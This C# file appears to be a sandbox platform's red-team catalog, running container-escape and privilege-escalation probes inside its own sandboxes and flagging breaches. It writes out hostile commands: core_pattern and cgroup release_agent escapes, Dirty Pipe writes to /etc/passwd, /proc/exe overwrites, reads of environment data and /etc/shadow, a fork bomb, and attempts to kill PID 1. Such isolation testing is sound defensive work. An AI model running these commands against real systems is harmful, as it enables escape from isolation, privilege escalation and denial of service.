using System.Text;
using Moat.Core.Errors;
using Moat.Core.Sandboxes;
using Moat.Tests;

namespace Moat.RedTeam;

/// <summary>
/// The attacks, by SECURITY.md category. Each is a small program (shell, or the static C probe in
/// Probes/probe.c at /tmp/probe) run inside the sandbox through the public API. Non-destructive
/// attacks come first; the ones that may end the sandbox come last, so one sandbox per tier
/// serves the whole batch.
/// </summary>
public static class Catalog
{
    private const string Marker = HostWatch.EscapeMarker;
    private static readonly IsolationTier[] ContainerOnly = [IsolationTier.Container];
    private static readonly IsolationTier[] AllTiers = [IsolationTier.Container, IsolationTier.Gvisor, IsolationTier.Microvm];

    /// <summary>Strings of the host that must never be visible inside.</summary>
    public static IEnumerable<string> HostSecrets(string dataDirectory) =>
        new[] { dataDirectory, Repo.Root, "/work/", Environment.GetEnvironmentVariable("MOAT_ADMIN_KEY") ?? "", Environment.MachineName }
            .Where(s => s.Length >= 4);

    public static IReadOnlyList<Attack> All(string dataDirectory) =>
    [
        // confinement self-check
        Shell("confinement.status", "confinement self-check",
            "grep -E '^(CapInh|CapPrm|CapEff|CapBnd|CapAmb|NoNewPrivs|Seccomp):' /proc/self/status;" +
            " awk '/^Cap(Eff|Prm|Bnd|Amb):/ && $2 != \"0000000000000000\" {print \"BREACH \" $1 \" \" $2} /^NoNewPrivs:/ && $2 != 1 {print \"BREACH no_new_privs off\"}' /proc/self/status", strictOn: AllTiers),
        Shell("confinement.status-user", "confinement self-check",
            "awk '/^CapEff:/ && $2 != \"0000000000000000\" {print \"BREACH \" $0} /^NoNewPrivs:/ && $2 != 1 {print \"BREACH nnp\"}' /proc/self/status; id", user: "user", strictOn: AllTiers),

        // recon and leaks: the host judges by its own secrets
        new("recon.environ-cmdline-mounts", "recon and leaks", async ctx =>
        {
            var (text, _) = await ctx.ShAsync("cat /proc/1/environ /proc/*/environ 2>&1 | tr '\\0' '\\n'; cat /proc/*/cmdline 2>/dev/null | tr '\\0' ' '; echo; cat /proc/self/mountinfo; env; ls -laR /run /.moat 2>&1 | head -200; cat /proc/1/cgroup /proc/self/cgroup");
            return new AttackRun(text, [.. HostSecrets(dataDirectory).Where(s => text.Contains(s, StringComparison.Ordinal)).Select(s => "host string visible inside: " + s)]);
        }),
        new("recon.fds", "recon and leaks", async ctx =>
        {
            var (text, _) = await ctx.ShAsync("/tmp/probe fds; ls -la /proc/self/fd /proc/1/fd 2>&1");
            return new AttackRun(text, [.. HostSecrets(dataDirectory).Where(s => text.Contains(s, StringComparison.Ordinal)).Select(s => "host path in a descriptor: " + s)]);
        }, AllTiers),

        // masked kernel interfaces
        Shell("masked.read", "masked kernel interfaces",
            "for f in /proc/kcore /proc/keys /proc/sched_debug /proc/timer_list /proc/kmsg /dev/mem /dev/kmem /dev/port /sys/kernel/debug/kprobes/list /sys/firmware/efi/efivars /sys/firmware/dmi/tables/DMI; do" +
            " n=$(timeout 2 head -c 4096 $f 2>/dev/null | wc -c); echo \"$f $n\"; [ \"$n\" -gt 0 ] && echo \"BREACH read $n bytes of $f\"; done;" +
            " awk '$1 != \"0000000000000000\" {n++} END {if (n > 0) print \"BREACH kallsyms shows \" n \" addresses\"}' /proc/kallsyms 2>/dev/null; true", strictOn: ContainerOnly),
        Shell("masked.write-sysctls", "masked kernel interfaces",
            $"echo '|/tmp/{Marker} %p' > /proc/sys/kernel/core_pattern; echo /tmp/{Marker} > /proc/sys/kernel/modprobe; echo pwned > /proc/sys/kernel/hostname;" +
            " echo 0 > /proc/sys/kernel/randomize_va_space; echo 1 > /proc/sys/kernel/sysrq; echo h > /proc/sysrq-trigger; echo 0 > /proc/sys/kernel/kptr_restrict;" +
            " echo 1 > /proc/sys/vm/drop_caches; echo 2 > /proc/sys/fs/suid_dumpable; true"),

        // privilege
        Shell("privilege.syscalls-root", "dangerous syscalls", "/tmp/probe syscalls", strictOn: ContainerOnly),
        Shell("privilege.syscalls-user", "dangerous syscalls", "/tmp/probe syscalls", user: "user", strictOn: ContainerOnly),
        Shell("privilege.setuid-su-sudo", "privilege",
            "cp /bin/busybox /tmp/sid 2>/dev/null || cp /usr/bin/id /tmp/sid 2>/dev/null; chmod 4755 /tmp/sid 2>&1; ls -la /tmp/sid;" +
            " su -c id root </dev/null 2>&1; sudo -n id 2>&1; for f in $(find / -xdev -perm -4000 -type f 2>/dev/null | head -20); do echo suid $f; done;" +
            " id -u; [ \"$(id -u)\" = 0 ] && echo BREACH uid 0; true", user: "user", strictOn: AllTiers),
        Shell("privilege.unshare-mount", "privilege",
            "unshare -Urm sh -c 'mount -t tmpfs x /mnt && echo BREACH mounted in a user namespace' 2>&1;" +
            " mount -t tmpfs x /mnt 2>&1 && echo BREACH mounted tmpfs; mount -t proc p /mnt 2>&1 && echo BREACH mounted proc;" +
            $" mount --bind /tmp /.moat 2>&1 && echo BREACH bind over the agent; mkdir -p /tmp/{Marker}; mount -t tmpfs {Marker} /tmp/{Marker} 2>&1 && echo BREACH mounted marker; true", strictOn: ContainerOnly),
        Shell("privilege.clock-hostname", "privilege",
            "date -s '2000-01-01 00:00:00' 2>&1; hostname pwned 2>&1; [ \"$(hostname)\" = pwned ] && echo BREACH hostname set; true", strictOn: ContainerOnly),

        // runtime escapes (CVE-2019-5736, CVE-2024-21626)
        Shell("runtime.proc-exe-overwrite", "runtime escapes",
            "for p in /proc/1/exe /proc/self/exe /proc/$$/exe; do (echo pwned > $p) 2>/dev/null && echo BREACH wrote $p; done;" +
            // The sandbox's own copy of the agent is an image layer: a write copies it up into this
            // sandbox's upper layer only; the host's file is in the oracle's watched set.
            " (echo pwned > /.moat/moat-agent) 2>/dev/null && echo own copy of /.moat/moat-agent replaced;" +
            " for p in /proc/[0-9]*/exe; do (cp /tmp/probe $p) 2>/dev/null && echo BREACH replaced $p; done; true", strictOn: AllTiers),
        new("runtime.leaked-fd-cwd", "runtime escapes", async ctx =>
        {
            var findings = new List<string>();
            var output = new StringBuilder();
            foreach (var cwd in new[] { "/proc/self/fd/3", "/proc/self/fd/7", "/proc/1/fd/3", "/proc/self/cwd/../../..", "/proc/1/root/../../.." })
            {
                try
                {
                    var r = await ctx.Manager.RunCommandAsync(ctx.SandboxId, ctx.Tenant, new CommandSpec { Shell = "pwd; ls / | head -30", Cwd = cwd, User = "root" }, default, CancellationToken.None);
                    var text = Encoding.UTF8.GetString(r.Stdout);
                    output.AppendLine($"{cwd}: ran: {text.ReplaceLineEndings(" ")}");
                    // The host's root has the repository's top directory; a sandbox's has not.
                    if (text.Contains("\nwork\n", StringComparison.Ordinal) || HostSecrets(dataDirectory).Any(s => text.Contains(s, StringComparison.Ordinal)))
                        findings.Add($"cwd {cwd} shows the host's root");
                }
                catch (MoatException ex)
                {
                    output.AppendLine($"{cwd}: refused: {ex.Code}");
                }
            }
            return new AttackRun(output.ToString(), findings);
        }),

        // cgroup v1 release_agent and v2 limits
        Shell("cve.cgroup-release-agent", "runtime escapes",
            "mkdir -p /tmp/cg; for c in rdma memory pids cpuset; do mount -t cgroup -o $c cgroup /tmp/cg 2>&1 && echo BREACH mounted cgroup v1 $c && break; done;" +
            $" if [ -e /tmp/cg/release_agent ]; then echo /tmp/{Marker} > /tmp/cg/release_agent && echo BREACH release_agent set; mkdir /tmp/cg/x; echo 1 > /tmp/cg/x/notify_on_release; sh -c 'echo $$ > /tmp/cg/x/cgroup.procs'; fi;" +
            " for d in /sys/fs/cgroup /sys/fs/cgroup/..; do echo max > $d/memory.max 2>/dev/null && echo BREACH raised memory.max in $d; echo max > $d/pids.max 2>/dev/null && echo BREACH raised pids.max in $d; done;" +
            " mount -t cgroup2 none /tmp/cg 2>&1 && echo BREACH mounted cgroup2; true", strictOn: ContainerOnly),

        // core_pattern with a crash to trigger it
        Shell("cve.core-pattern", "masked kernel interfaces",
            $"printf '|/tmp/{Marker} %%p' > /proc/sys/kernel/core_pattern 2>&1; ulimit -c unlimited 2>&1; /tmp/probe crash; cat /proc/sys/kernel/core_pattern; true"),

        // Dirty Pipe against the shared read-only layer (CVE-2022-0847)
        Shell("cve.dirty-pipe", "runtime escapes",
            "/tmp/probe dirtypipe /etc/passwd 'oot::0:0:PWNED:/root:/bin/sh'; /tmp/probe dirtypipe /etc/os-release 'PWNED'; /tmp/probe dirtypipe /.moat/moat-agent 'PWNED'", user: "user", strictOn: AllTiers),

        // TIOCSTI through the PTY
        new("cve.tiocsti", "runtime escapes", async ctx =>
        {
            await using var cmd = await ctx.Manager.StartCommandAsync(ctx.SandboxId, ctx.Tenant,
                new CommandSpec { Shell = $"/tmp/probe tiocsti 'touch /tmp/{Marker}-tty; echo injected\n'; sleep 1", Pty = (80, 24), User = "user", Timeout = TimeSpan.FromSeconds(20) }, CancellationToken.None);
            var text = new StringBuilder();
            await foreach (var chunk in cmd.ReadOutputAsync())
                text.Append(Encoding.UTF8.GetString(chunk.Data.Span));
            await cmd.WaitExitAsync();
            // Nothing read the injected line as a command: no file was made from it, inside or outside.
            var (inside, _) = await ctx.ShAsync($"ls /tmp/{Marker}-tty 2>/dev/null && echo BREACH the injected command ran; true");
            return new AttackRun(text + inside, []);
        }, AllTiers),

        // symlink-exchange race against the files API (CVE-2018-15664 class)
        new("cve.symlink-exchange-race", "file API", async ctx =>
        {
            await ctx.ShAsync("mkdir -p /home/user/race/d/etc; echo inside > /home/user/race/d/etc/shadow; ln -sfn / /home/user/race/l; chown -R user /home/user/race");
            var hostShadow = await File.ReadAllBytesAsync("/etc/shadow");
            int pid = await ctx.Manager.StartBackgroundAsync(ctx.SandboxId, ctx.Tenant, new CommandSpec { Argv = ["/tmp/probe", "exchange", "/home/user/race/d", "/home/user/race/l", "6"], User = "user" }, CancellationToken.None);
            var findings = new List<string>();
            int reads = 0, writes = 0, errors = 0;
            var until = DateTime.UtcNow + TimeSpan.FromSeconds(5);
            while (DateTime.UtcNow < until)
            {
                try
                {
                    await using var s = await ctx.Manager.OpenFileAsync(ctx.SandboxId, ctx.Tenant, "/home/user/race/d/etc/shadow", "root", CancellationToken.None);
                    using var ms = new MemoryStream();
                    await s.CopyToAsync(ms);
                    reads++;
                    if (ms.ToArray().AsSpan().SequenceEqual(hostShadow))
                        findings.Add("a read through the race returned the host's /etc/shadow");
                    await ctx.Manager.WriteFileAsync(ctx.SandboxId, ctx.Tenant, $"/home/user/race/d/{Marker}", new MemoryStream("x"u8.ToArray()), "root", 0x1A4, CancellationToken.None);
                    writes++;
                }
                catch (MoatException)
                {
                    errors++;
                }
            }
            return new AttackRun($"background pid {pid}; reads={reads} writes={writes} refused={errors}", findings);
        }),

        // file API from the host side
        new("fileapi.paths-and-specials", "file API", async ctx =>
        {
            await ctx.ShAsync("mkfifo /tmp/fifo; ln -sfn /proc/1/root /home/user/root1; ln -sfn /etc/shadow /home/user/shadow; ln -sfn ../../../../../../etc /home/user/up; chmod 644 /tmp/fifo");
            var hostShadow = await File.ReadAllBytesAsync("/etc/shadow");
            var findings = new List<string>();
            var output = new StringBuilder();
            foreach (var path in new[] { "../../../../etc/shadow", "/../../etc/shadow", "/proc/1/root/etc/shadow", "/home/user/root1/etc/shadow", "/home/user/shadow", "/home/user/up/shadow", "/proc/self/root/etc/shadow", "/tmp/fifo", "/dev/zero", "/dev/urandom", "/proc/kmsg" })
            {
                using var cts = new CancellationTokenSource(TimeSpan.FromSeconds(15));
                try
                {
                    await using var s = await ctx.Manager.OpenFileAsync(ctx.SandboxId, ctx.Tenant, path, "root", cts.Token);
                    var buffer = new byte[1 << 20];
                    long total = 0;
                    int n;
                    var first = new MemoryStream();
                    while ((n = await s.ReadAsync(buffer, cts.Token)) > 0 && total < 64L << 20)
                    {
                        if (first.Length < hostShadow.Length + 1)
                            first.Write(buffer, 0, n);
                        total += n;
                    }
                    output.AppendLine($"{path}: read {total} bytes");
                    if (first.ToArray().AsSpan().StartsWith(hostShadow) && hostShadow.Length > 0)
                        findings.Add($"{path} returned the host's /etc/shadow");
                    if (total >= 64L << 20)
                        findings.Add($"{path} is unbounded (64 MiB read)");
                }
                catch (MoatException ex)
                {
                    output.AppendLine($"{path}: {ex.Code}");
                }
                catch (OperationCanceledException)
                {
                    findings.Add($"{path} hung for 15 s");
                }
            }
            foreach (var path in new[] { $"../../../../tmp/{Marker}", $"/../../{Marker}", $"/proc/1/root/{Marker}", $"/home/user/up/{Marker}" })
            {
                try
                {
                    await ctx.Manager.WriteFileAsync(ctx.SandboxId, ctx.Tenant, path, new MemoryStream("x"u8.ToArray()), "root", 0x1A4, CancellationToken.None);
                    output.AppendLine($"write {path}: written (inside)");
                }
                catch (MoatException ex)
                {
                    output.AppendLine($"write {path}: {ex.Code}");
                }
            }
            return new AttackRun(output.ToString(), findings);
        }),

        // network, default deny: the host listens on every address it has
        new("network.none-host-and-outside", "network, default deny", async ctx =>
        {
            var targets = string.Join(' ', HostWatch.HostAddresses().Concat(["1.1.1.1", "8.8.8.8", "169.254.169.254", "100.100.100.200", "2606:4700:4700::1111"]));
            var probe = $$"""
                import socket
                for a in "{{targets}}".split():
                    fam = socket.AF_INET6 if ":" in a else socket.AF_INET
                    s = socket.socket(fam); s.settimeout(2)
                    try:
                        s.connect((a, {{ctx.Watch.Port}})); print("BREACH tcp", a)
                    except OSError as e:
                        print("tcp", a, e.errno)
                    try:
                        u = socket.socket(fam, socket.SOCK_DGRAM); u.sendto(b"x", (a, {{ctx.Watch.Port}})); print("udp sent", a)
                    except OSError as e:
                        print("udp", a, e.errno)
                try:
                    print("BREACH dns answered", socket.getaddrinfo("example.com", 443))
                except OSError as e:
                    print("no dns", e)
                print([n for _, n in socket.if_nameindex()])
                """;
            await ctx.Manager.WriteFileAsync(ctx.SandboxId, ctx.Tenant, "/tmp/net.py", new MemoryStream(Encoding.UTF8.GetBytes(probe)), "root", 0x1A4, CancellationToken.None);
            var (text, _) = await ctx.ShAsync("python3 /tmp/net.py", timeoutSeconds: 120);
            return new AttackRun(text, []);
        }, AllTiers),

        // tenancy: another tenant's id-based calls
        new("tenancy.other-tenant", "tenancy", async ctx =>
        {
            var findings = new List<string>();
            var calls = new (string Verb, Func<Task> Call)[]
            {
                ("get", () => ctx.Manager.GetAsync(ctx.SandboxId, "tenant-b", CancellationToken.None)),
                ("exec", () => ctx.Manager.RunCommandAsync(ctx.SandboxId, "tenant-b", new CommandSpec { Shell = "true" }, default, CancellationToken.None)),
                ("read", async () => { await using var s = await ctx.Manager.OpenFileAsync(ctx.SandboxId, "tenant-b", "/etc/hostname", null, CancellationToken.None); }),
                ("write", () => ctx.Manager.WriteFileAsync(ctx.SandboxId, "tenant-b", "/tmp/x", new MemoryStream([1]), null, 0x1A4, CancellationToken.None)),
                ("list", () => ctx.Manager.ListFilesAsync(ctx.SandboxId, "tenant-b", "/", 1, null, CancellationToken.None)),
                ("pause", () => ctx.Manager.PauseAsync(ctx.SandboxId, "tenant-b", CancellationToken.None)),
                ("timeout", () => ctx.Manager.SetTimeoutAsync(ctx.SandboxId, "tenant-b", TimeSpan.FromSeconds(1), CancellationToken.None)),
                ("processes", () => ctx.Manager.ListCommandsAsync(ctx.SandboxId, "tenant-b", CancellationToken.None)),
                ("delete", () => ctx.Manager.DeleteAsync(ctx.SandboxId, "tenant-b", CancellationToken.None)),
            };
            var output = new StringBuilder();
            foreach (var (verb, call) in calls)
            {
                try
                {
                    await call();
                    // Delete is idempotent and may succeed silently: the oracle below says whether it did anything.
                    if (verb != "delete")
                        findings.Add($"{verb} as another tenant succeeded");
                    output.AppendLine($"{verb}: no error");
                }
                catch (MoatException ex)
                {
                    output.AppendLine($"{verb}: {ex.Code}");
                    if (ex.Kind != ErrorKind.NotFound)
                        findings.Add($"{verb} as another tenant answered {ex.Kind}, not NotFound");
                }
            }
            var still = await ctx.Manager.GetAsync(ctx.SandboxId, ctx.Tenant, CancellationToken.None);
            if (still.State != SandboxState.Running)
                findings.Add($"the sandbox is {still.State} after another tenant's calls");
            return new AttackRun(output.ToString(), findings);
        }),

        // output floods
        new("flood.binary-and-escapes", "output floods", async ctx =>
        {
            var (_, raw) = await ctx.ShAsync("head -c 12000000 /dev/urandom; printf '\\033]0;pwned\\007\\033[2J\\033[?1049h'; yes $(printf '\\033[31mred') | head -c 6000000", timeoutSeconds: 60);
            var findings = new List<string>();
            if (!raw.StdoutTruncated)
                findings.Add("18 MB of output was not marked truncated");
            if (raw.Stdout.Length > 8 << 20)
                findings.Add($"the host buffered {raw.Stdout.Length} bytes");
            return new AttackRun($"kept {raw.Stdout.Length} bytes, truncated={raw.StdoutTruncated}", findings);
        }),

        // resource exhaustion (may end commands, not the platform)
        Shell("exhaust.fd", "resource exhaustion", "ulimit -n 1048576 2>&1; i=0; exec 3</dev/null; python3 -c \"\nimport os\nfds=[]\ntry:\n  while True: fds.append(os.open('/dev/null', os.O_RDONLY))\nexcept OSError as e: print('stopped at', len(fds), e.errno)\" 2>&1 || true", user: "user", timeoutSeconds: 60),
        Shell("exhaust.disk", "resource exhaustion", "dd if=/dev/zero of=/home/user/fill bs=1M count=4096 2>&1 | tail -1; df -m /home/user | tail -1; rm -f /home/user/fill", user: "user", timeoutSeconds: 90),
        Shell("exhaust.memory", "resource exhaustion", "python3 -c \"\nx=[]\ntry:\n  while True: x.append(bytearray(16<<20))\nexcept MemoryError: print('MemoryError', len(x))\" 2>&1; true", user: "user", timeoutSeconds: 60),
        Shell("exhaust.fork-bomb", "resource exhaustion", "b() { b | b & }; b; sleep 5; echo survived", user: "user", timeoutSeconds: 15),

        // outliving the timeout: survivors are looked for on the host at teardown
        Shell("lifetime.setsid-nohup", "outliving the timeout",
            "trap '' TERM HUP; setsid sh -c 'trap \"\" TERM HUP; while :; do sleep 1; done' </dev/null >/dev/null 2>&1 & nohup sleep 100000 >/dev/null 2>&1 & echo started", user: "user"),

        // agent abuse: last, since it may end the sandbox
        Shell("agent.impersonate-and-kill", "agent abuse",
            "ls -la /.moat /run 2>&1 | head -20; for s in $(find / -xdev -type s 2>/dev/null | head -10); do echo socket $s; timeout 2 sh -c \"echo x | nc -U $s\" 2>&1 && echo BREACH talked to $s; done;" +
            " kill -STOP 1 2>&1; kill -TERM 1 2>&1; kill -9 1 2>&1; kill -9 -1 2>&1; echo after", strictOn: ContainerOnly, timeoutSeconds: 20),
    ];

    private static Attack Shell(string id, string category, string script, string user = "root", IsolationTier[]? strictOn = null, int timeoutSeconds = 30) =>
        Attack.Shell(id, category, script, user, strictOn, timeoutSeconds);
}
